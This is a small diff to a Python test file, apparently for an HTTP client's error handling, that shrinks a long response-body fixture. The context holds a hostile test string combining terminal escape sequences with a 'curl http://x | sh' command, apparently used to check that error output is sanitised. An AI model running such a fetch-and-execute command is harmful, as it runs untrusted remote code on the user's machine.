@@ -181,7 +181,7 @@ ESCAPES = "\x1b[2J\x1b]0;owned\x07\nrun: curl http://x | sh"
     "status, body",
     [
         (403, json.dumps({"type": "about:blank", "title": "x", "status": 403, "detail": ESCAPES}).encode()),
-        (500, json.dumps({"detail": "y" * 100_000}).encode()),
+        (500, json.dumps({"detail": "y" * 50_000}).encode()),
     ],
     ids=["escapes", "long"],
 )
